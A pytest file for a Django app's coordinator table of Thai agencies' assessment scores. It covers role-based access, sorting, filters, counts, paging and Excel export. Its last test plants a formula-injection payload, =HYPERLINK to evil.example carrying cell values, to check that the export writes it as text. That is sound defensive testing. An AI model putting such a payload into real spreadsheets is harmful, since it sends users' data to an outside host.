"""The coordinator table: who sees which agencies, sorting, filters, counts, pages, export.

The fixtures put เทศบาลตำบลคำบง (94.11 in 2568) in อุดรธานี and another agency in เชียงใหม่;
tests add synthetic agencies (openita.web.synthetic) where a table needs more rows. Expected
orders and counts are computed from the stored Result rows, never typed in.
"""

from __future__ import annotations

import re
import zipfile
from io import BytesIO
from typing import Any

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from openita.scoring import change
from openita.web.agencies.models import Agency
from openita.web.assessments import services
from openita.web.assessments.models import Result
from openita.web.coordination.export import HEADERS
from openita.web.coordination.table import COLUMNS, PAGE_SIZE
from openita.web.plans import services as plan_services
from openita.web.plans.models import Measure, Status
from openita.web.synthetic import synthetic_file

TABLE = reverse("coordination:table")
EXPORT = reverse("coordination:export")
ROW_CODE = re.compile(r'<th scope="row"><a href="/a/([\w-]+)/">')
COUNT = re.compile(r'<div data-count="([^"]+)"[^>]*><dt>[^<]*</dt><dd>(\d+)</dd>')


def _agency(
    code: str, province: str = "อุดรธานี", years: tuple[int, ...] = (2568,), seed: int | None = None
) -> Agency:
    """A synthetic agency of ``province`` with results of ``years`` (seeded by its code)."""
    agency = Agency.objects.create(
        code=code,
        name=f"เทศบาลตำบลทดสอบ {code} (ข้อมูลสมมติ)",
        agency_type="เทศบาลตำบล",
        ministry="กระทรวงมหาดไทย",
        province=province,
        district="เมือง",
    )
    seed = sum(map(ord, code)) if seed is None else seed
    for year in years:
        name, data = synthetic_file(year, seed, {"name": agency.name, "code": code})
        services.save_result(agency, services.read_upload(data, name, agency))
    return agency


def _codes(response: Any) -> list[str]:
    assert response.status_code == 200
    return ROW_CODE.findall(response.content.decode())


def _by_overall(codes: list[str], year: int = 2568) -> list[str]:
    overall = dict(
        Result.objects.filter(fiscal_year=year, agency__code__in=codes).values_list(
            "agency__code", "overall"
        )
    )
    return sorted(codes, key=lambda c: overall[c])


@pytest.fixture
def udon(khambong: Agency) -> list[Agency]:
    """Four more agencies in อุดรธานี with 2568 results (five with khambong)."""
    return [_agency(f"udon-{n}") for n in range(4)]


def test_the_coordinator_of_udon_thani_sees_khambong_and_not_chiang_mai(client_as, users):
    body = client_as("coordinator").get(TABLE).content.decode()
    assert "เทศบาลตำบลคำบง" in body and "เทศบาลตำบลตัวอย่าง" not in body
    assert "94.11" in body


def test_the_coordinator_of_chiang_mai_sees_the_reverse(client_as, users):
    codes = _codes(client_as("coordinator_elsewhere").get(TABLE))
    assert codes == ["other"]


def test_a_site_administrator_coordinates_every_agency(client_as, users):
    assert set(_codes(client_as("site_admin").get(TABLE))) == {"khambong", "other"}


@pytest.mark.parametrize("role", ["viewer", "editor", "agency_admin", "outsider_admin"])
def test_members_who_coordinate_nothing_get_403_on_the_table_and_the_export(client_as, role):
    client = client_as(role)
    assert client.get(TABLE).status_code == 403
    assert client.get(EXPORT).status_code == 403


def test_anonymous_users_are_sent_to_log_in(client_as):
    response = client_as("anonymous").get(EXPORT)
    assert response.status_code == 302 and "/accounts/login/" in response["Location"]


@pytest.mark.parametrize("direction", ["asc", "desc"])
def test_sorting_by_overall_orders_the_rows_by_score(client_as, udon, direction):
    codes = _codes(client_as("coordinator").get(TABLE, {"sort": "overall", "dir": direction}))
    expected = _by_overall(codes)
    assert len(codes) == 5
    assert codes == (expected if direction == "asc" else expected[::-1])


def test_the_sorted_header_alone_says_how_it_is_sorted_and_links_the_other_way(client_as, udon):
    body = client_as("coordinator").get(TABLE, {"sort": "overall", "dir": "asc"}).content.decode()
    sorted_headers = re.findall(
        r'<th scope="col"[^>]*aria-sort="(\w+)"[^>]*><a href="([^"]+)"', body
    )
    assert len(sorted_headers) == 1
    aria, link = sorted_headers[0]
    assert aria == "ascending"
    assert "sort=overall" in link and "dir=desc" in link


def test_agencies_without_a_score_come_last_in_both_directions(client_as, udon):
    _agency("udon-none", years=())
    for direction in ("asc", "desc"):
        codes = _codes(client_as("coordinator").get(TABLE, {"sort": "overall", "dir": direction}))
        assert codes[-1] == "udon-none"


def test_levels_sort_by_the_framework_order_not_by_name(client_as, udon):
    codes = _codes(client_as("coordinator").get(TABLE, {"sort": "level", "dir": "desc"}))
    rank = {"excellent": 0, "good": 1, "pass": 2, "improve": 3, "urgent": 4}
    level = dict(Result.objects.filter(fiscal_year=2568).values_list("agency__code", "level_id"))
    ranks = [rank[level[c]] for c in codes]
    assert ranks == sorted(ranks), "descending levels: best first"


def test_the_no_upload_filter_lists_agencies_without_results(client_as, udon):
    _agency("udon-late", years=())
    assert _codes(client_as("coordinator").get(TABLE, {"status": "no_upload"})) == ["udon-late"]


def test_the_no_plan_filter_leaves_out_agencies_with_a_plan(client_as, udon):
    plan_services.create_draft(Agency.objects.get(code="khambong"), 2568)
    codes = _codes(client_as("coordinator").get(TABLE, {"status": "no_plan"}))
    assert "khambong" not in codes and len(codes) == 4


def test_filters_by_province_level_and_text(client_as, users, udon):
    client = client_as("site_admin")
    assert "other" not in _codes(client.get(TABLE, {"province": "อุดรธานี"}))
    good = set(
        Result.objects.filter(fiscal_year=2568, level="ผ่านดี").values_list("agency__code", flat=True)
    )
    assert set(_codes(client.get(TABLE, {"level": "ผ่านดี"}))) == good
    assert _codes(client.get(TABLE, {"q": "คำบง"})) == ["khambong"]


def test_the_year_filter_shows_that_years_results_and_the_change(client_as, udon):
    client = client_as("coordinator")
    body = client.get(TABLE, {"year": "2567", "q": "คำบง"}).content.decode()
    assert "99.00" in body and "94.11" not in body
    body = client.get(TABLE, {"q": "คำบง"}).content.decode()
    assert f"{change(99.0, 94.11).points:.2f}" in body  # the engine's change, −4.89


def test_unknown_filter_values_are_ignored_not_errors(client_as, udon):
    response = client_as("coordinator").get(
        TABLE, {"year": "1999", "sort": "password", "page": "-4", "status": "x", "level": "A+"}
    )
    assert len(_codes(response)) == 5


def test_counts_on_top_match_the_stored_rows(client_as, udon):
    _agency("udon-late", years=())
    plan_services.create_draft(Agency.objects.get(code="khambong"), 2568)
    body = client_as("coordinator").get(TABLE).content.decode()
    counts = {k: int(n) for k, n in COUNT.findall(body)}
    results = Result.objects.filter(fiscal_year=2568, agency__province="อุดรธานี")
    assert counts["agencies"] == Agency.objects.filter(province="อุดรธานี").count()
    assert counts["uploaded"] == results.count()
    assert counts["not_uploaded"] == 1
    assert counts["with_plan"] == 1
    for level in set(results.values_list("level", flat=True)):
        assert counts[level] == results.filter(level=level).count()


def test_plan_progress_is_the_plan_services_figure(client_as, khambong, users):
    plan = plan_services.create_draft(khambong, 2568)
    measure = Measure.objects.filter(section__plan=plan).order_by("pk").first()
    assert measure is not None
    measure.status, measure.progress = Status.DONE, 100
    measure.save()
    progress = plan_services.progress(plan)
    body = client_as("coordinator").get(TABLE).content.decode()
    assert f"({progress.done}/{progress.measures})" in body
    assert f"{progress.percent:.0f}%" in body


def test_the_page_costs_the_same_queries_for_five_agencies_or_fifty(client_as, udon):
    client = client_as("coordinator")
    for agency in Agency.objects.filter(province="อุดรธานี")[:2]:
        plan_services.create_draft(agency, 2568)

    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            assert client.get(TABLE, {"sort": "overall"}).status_code == 200
        return len(captured)

    few = queries()
    for n in range(45):
        _agency(f"more-{n}", years=())
    assert queries() == few


def test_pages_hold_fifty_rows_and_a_page_past_the_end_shows_the_last(client_as, khambong, users):
    Agency.objects.bulk_create(
        Agency(code=f"bulk-{n:03}", name=f"อบต.ทดสอบ {n:03}", province="อุดรธานี") for n in range(60)
    )
    client = client_as("coordinator")
    first = _codes(client.get(TABLE))
    second = _codes(client.get(TABLE, {"page": "2"}))
    assert (len(first), len(second)) == (PAGE_SIZE, 61 - PAGE_SIZE)
    assert not set(first) & set(second)
    assert _codes(client.get(TABLE, {"page": "99"})) == second


def test_htmx_gets_only_the_table_and_a_browser_the_whole_page(client_as, users):
    client = client_as("coordinator")
    fragment = client.get(TABLE, headers={"HX-Request": "true"})
    assert b"<html" not in fragment.content and b'id="coordination-table"' in fragment.content
    assert "HX-Request" in fragment["Vary"]
    assert b"<html" in client.get(TABLE).content


def test_the_export_has_the_same_rows_as_the_filtered_table_on_every_page(client_as, udon):
    _agency("udon-late", years=())
    client = client_as("coordinator")
    params = {"sort": "overall", "dir": "desc", "province": "อุดรธานี"}
    shown = _codes(client.get(TABLE, params))
    response = client.get(EXPORT, params)
    assert response.status_code == 200
    assert "spreadsheetml" in response["Content-Type"]
    sheet = load_workbook(BytesIO(response.content)).active
    rows = list(sheet.values)
    assert list(rows[0]) == [header for header, _ in HEADERS]
    assert [row[0] for row in rows[1:]] == shown
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:S{len(rows)}"
    khambong = next(row for row in rows if row[0] == "khambong")
    assert khambong[7] == 94.11 and isinstance(khambong[7], float)
    assert khambong[8] == "ผ่านดี"
    late = next(row for row in rows if row[0] == "udon-late")
    assert late[7] is None


def test_the_export_follows_the_status_filter(client_as, udon):
    _agency("udon-late", years=())
    response = client_as("coordinator").get(EXPORT, {"status": "no_upload"})
    rows = list(load_workbook(BytesIO(response.content)).active.values)
    assert [row[0] for row in rows[1:]] == ["udon-late"]


@pytest.fixture
def crowded(khambong: Agency, users: Any) -> None:
    """Two pages in อุดรธานี: agencies with two years, two with identical scores (ties), two
    plans at different progress, and agencies without any result between them by name."""
    for n in range(3):
        _agency(f"two-years-{n}", years=(2567, 2568))
    _agency("tie-a", seed=5, years=(2567, 2568))
    _agency("tie-b", seed=5, years=(2567, 2568))
    Agency.objects.bulk_create(
        Agency(code=f"none-{n:02}", name=f"เทศบาลตำบลทดสอบ none-{n:02}", province="อุดรธานี")
        for n in range(50)
    )
    for code, done in (("khambong", 3), ("tie-a", 1)):
        plan = plan_services.create_draft(Agency.objects.get(code=code), 2568)
        for measure in Measure.objects.filter(section__plan=plan).order_by("pk")[:done]:
            measure.status, measure.progress = Status.DONE, 100
            measure.save()


@pytest.mark.parametrize("direction", ["asc", "desc"])
@pytest.mark.parametrize("key", [c.key for c in COLUMNS])
def test_the_pages_in_turn_list_the_agencies_in_the_exports_order(
    client_as, crowded, key, direction
):
    """The page is found from the sorted ids and the export from one joined query: two
    roads, one order (ties by name, missing values last)."""
    client = client_as("coordinator")
    params = {"sort": key, "dir": direction}
    pages = _codes(client.get(TABLE, params)) + _codes(client.get(TABLE, {**params, "page": 2}))
    rows = list(load_workbook(BytesIO(client.get(EXPORT, params).content)).active.values)
    assert [row[0] for row in rows[1:]] == pages
    assert len(pages) == Agency.objects.filter(province="อุดรธานี").count() == 56


@pytest.mark.parametrize(
    ("role", "codes"), [("coordinator", ["khambong"]), ("coordinator_elsewhere", ["other"])]
)
def test_the_export_holds_only_the_coordinators_agencies(client_as, users, role, codes):
    rows = list(load_workbook(BytesIO(client_as(role).get(EXPORT).content)).active.values)
    assert [row[0] for row in rows[1:]] == codes


def test_the_export_writes_formula_like_names_as_text(client_as, khambong):
    """A name such as =HYPERLINK(…) is a text cell in the workbook, never a formula."""
    hostile = '=HYPERLINK("https://evil.example/?c="&A2&B2,"คะแนน")'
    Agency.objects.filter(pk=khambong.pk).update(name=hostile, district="@SUM(A1)")
    response = client_as("coordinator").get(EXPORT)
    with zipfile.ZipFile(BytesIO(response.content)) as zf:
        assert "<f>" not in zf.read("xl/worksheets/sheet1.xml").decode()
    rows = list(load_workbook(BytesIO(response.content)).active.values)
    row = next(row for row in rows if row[0] == "khambong")
    assert row[1] == hostile and row[4] == "@SUM(A1)"
    assert isinstance(row[7], float)
